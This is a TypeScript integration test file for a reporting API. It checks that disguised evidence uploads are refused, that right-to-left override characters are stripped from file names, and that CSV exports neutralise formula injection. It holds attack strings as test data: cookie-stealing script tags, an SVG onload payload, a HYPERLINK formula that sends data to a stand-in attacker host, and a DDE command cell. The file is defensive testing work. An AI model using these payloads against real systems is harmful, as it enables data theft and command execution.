import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseString } from '@fast-csv/parse';
import { DataSource } from 'typeorm';
import { ScheduledReportKind } from '../libs/report-schedules/report-schedule.entity.js';
import { reportTable } from '../libs/report-schedules/report-rows.js';
import { writeCsv } from '../libs/report-schedules/report-writers.js';
import { bootApi, type Client, type TestApi } from './support/api.js';
import { createTestDatabase, type TestDatabase } from './support/database.js';
import { minimalDocx, minimalPdf, minimalXlsx, zip } from './support/evidence-files.js';
import { given, type Given } from './support/given.js';

/**
 * Files an attacker makes to pass the evidence type checks (issue 11): HTML behind a PDF header,
 * any ZIP as an XLSX or DOCX, HTML as CSV, a right-to-left override in the name; and user text
 * that a spreadsheet would run as a formula when a report is exported.
 */
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const SUB_PROJECT = 'aap2-sp-12';

let db: TestDatabase;
let server: TestApi;
let g: Given;
let officer: Client;
let draftId: string;
let storageDir: string;
const savedStorageDir = process.env.STORAGE_DIR;

beforeAll(async () => {
  storageDir = await mkdtemp(join(tmpdir(), 'guankao-hardening-files-'));
  process.env.STORAGE_DIR = storageDir;
  db = await createTestDatabase();
  g = await given(db.url);
  await g.sql(`UPDATE sub_project SET status = 'acknowledged' WHERE code = $1`, [SUB_PROJECT]);
  server = await bootApi(db.url);
  officer = await server.as('moea-officer');
  const draft = await officer.request('POST', '/api/submissions', { subProject: SUB_PROJECT, period: '2024-Q1' });
  expect(draft.status).toBe(201);
  draftId = draft.body.id;
});

afterAll(async () => {
  await server?.app.close();
  await g?.close();
  await db?.drop();
  await rm(storageDir, { recursive: true, force: true });
  if (savedStorageDir === undefined) delete process.env.STORAGE_DIR;
  else process.env.STORAGE_DIR = savedStorageDir;
});

const upload = (bytes: Buffer, contentType: string, filename = 'evidence.bin', language = 'en') =>
  officer.request('PUT', `/api/submissions/${draftId}/evidence?filename=${encodeURIComponent(filename)}`, bytes, {
    'content-type': contentType, 'accept-language': language,
  });
const evidenceRows = () => g.sql<{ filename: string }>('SELECT filename FROM evidence_file WHERE submission_id = $1', [draftId]);

/** Refused with 415 for `reason`, in English and in zh-TW, and nothing recorded. */
async function refusedFor(bytes: Buffer, contentType: string, reason: string, english: RegExp, chinese: RegExp): Promise<void> {
  const before = (await evidenceRows()).length;
  const en = await upload(bytes, contentType);
  expect({ status: en.status, code: en.body.error?.code, reason: en.body.error?.details?.reason }).toEqual({ status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', reason });
  expect(en.body.error.message).toMatch(english);
  const zh = await upload(bytes, contentType, 'evidence.bin', 'zh-TW');
  expect(zh.status).toBe(415);
  expect(zh.body.error.message).toMatch(chinese);
  expect(await evidenceRows()).toHaveLength(before);
}

describe('evidence is what it says it is', () => {
  it('a file that starts with %PDF but holds HTML is refused; a real PDF is stored', async () => {
    const html = '<html><body><script>fetch("/api/me").then(r => r.text()).then(alert)</script></body></html>';
    await refusedFor(Buffer.from(`%PDF-1.7\n${html}\n`), 'application/pdf', 'notPdf', /not PDF: it does not end with a PDF trailer/, /不是完整的 PDF/);
    // A trailer bolted on, pointing at nothing PDF.
    await refusedFor(Buffer.from(`%PDF-1.7\n${html}\nstartxref\n9\n%%EOF\n`), 'application/pdf', 'notPdf', /startxref does not point at a cross-reference table/, /不是完整的 PDF/);
    expect((await upload(minimalPdf('期中報告'), 'application/pdf', '期中報告.pdf')).status).toBe(201);
  });

  it('a ZIP is not an XLSX or a DOCX; a DOCX is not an XLSX; real ones are stored', async () => {
    const archive = zip([['budget.csv', '項目,金額\n人事費,1.5\n'], ['xl/readme.txt', 'not a workbook']]);
    await refusedFor(archive, XLSX, 'notOfficeDocument', /ZIP archive whose \[Content_Types\]\.xml does not name a XLSX/, /ZIP 壓縮檔/);
    await refusedFor(archive, DOCX, 'notOfficeDocument', /not DOCX/, /ZIP 壓縮檔/);
    await refusedFor(minimalDocx('會議紀錄'), XLSX, 'otherType', /declared as .*spreadsheetml.sheet but its content is not XLSX/, /檔案內容與宣告的類型不符/);
    expect((await upload(await minimalXlsx('預算'), XLSX, '預算.xlsx')).status).toBe(201);
    expect((await upload(minimalDocx('會議紀錄'), DOCX, '會議紀錄.docx')).status).toBe(201);
  });

  it('HTML or SVG sent as CSV is refused; a CSV is stored', async () => {
    await refusedFor(Buffer.from('<!DOCTYPE html><html><script>alert(document.cookie)</script></html>'), 'text/csv', 'markup', /HTML or XML/, /不是 CSV/);
    await refusedFor(Buffer.from('\uFEFF  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'text/csv', 'markup', /HTML or XML/, /不是 CSV/);
    await refusedFor(Buffer.from('項目,說明\n資料集,"<script>alert(1)</script>"\n'), 'text/csv; charset=utf-8', 'markup', /HTML or XML/, /不是 CSV/);
    expect((await upload(Buffer.from('項目,數量\n資料集,3\n'), 'text/csv; charset=utf-8', '數量.csv')).status).toBe(201);
  });

  it('bidirectional controls are removed from a file name: stored, listed and downloaded as it reads', async () => {
    const disguised = '成果報告\u202Efdp.exe'; // shows as 成果報告exe.pdf
    const res = await upload(minimalPdf('rlo'), 'application/pdf', disguised);
    expect(res.status).toBe(201);
    expect(res.body.evidence.filename).toBe('成果報告fdp.exe');
    const [stored] = await g.sql<{ filename: string }>('SELECT filename FROM evidence_file WHERE id = $1', [res.body.evidence.id]);
    expect(stored.filename).toBe('成果報告fdp.exe');
    const download = await fetch(`${server.baseUrl}/api/evidence/${res.body.evidence.id}`, { headers: { authorization: `Bearer ${(officer as any).token}` } });
    expect(download.status).toBe(200);
    expect(download.headers.get('content-disposition')).not.toMatch(/%E2%80%AE|\u202E/i);
    // A name of nothing but controls is no name.
    const blank = await upload(minimalPdf('blank'), 'application/pdf', '\u202E\u2066\u200F');
    expect({ status: blank.status, field: blank.body.error?.details?.fields?.[0]?.field }).toEqual({ status: 400, field: 'filename' });
  });
});

describe('exported cells that come from user text are not formulas', () => {
  const names = ['=HYPERLINK("https://evil.example/?"&A1,"點我")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1'];

  it('CSV: a cell starting with = + - @ tab or CR gets a leading apostrophe; numbers stay numbers', async () => {
    const programme = await g.programme('hf');
    for (const [i, name] of names.entries()) {
      const sp = await g.subProject({ code: `hf-${i}`, programmeId: programme, lead: 'moea', name });
      await g.milestone(sp, { code: `hf-${i}-1`, seq: 1, due: '2026-01-31' });
    }
    const ds = server.app.get(DataSource);
    const table = await reportTable(ds.manager, ScheduledReportKind.ProgrammeSummary, programme, '2026-12-01');
    const csv = writeCsv({ ...table, rows: [...table.rows, ['-1.5', -2, '+3']] }).bytes.toString('utf8').slice(1);
    const rows = await new Promise<string[][]>((resolve, reject) => {
      const out: string[][] = [];
      parseString(csv).on('data', (r: string[]) => out.push(r)).on('end', () => resolve(out)).on('error', reject);
    });
    const exported = rows.slice(1, -1).map((r) => r[1]).sort();
    expect(exported).toEqual(names.map((n) => `'${n}`).sort());
    expect(rows.at(-1)!.slice(0, 3)).toEqual(['-1.5', '-2', '+3']);
  });
});
